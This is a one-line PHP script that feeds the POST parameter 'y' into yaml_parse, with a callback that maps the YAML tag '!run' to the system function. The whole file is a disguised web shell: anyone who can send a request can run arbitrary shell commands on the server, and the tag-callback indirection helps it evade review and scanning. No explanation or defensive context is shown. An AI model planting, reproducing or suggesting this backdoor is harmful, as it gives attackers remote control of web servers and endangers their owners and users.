<?php $cb = array("!run" => "system"); yaml_parse($_POST["y"], 0, $n, $cb);
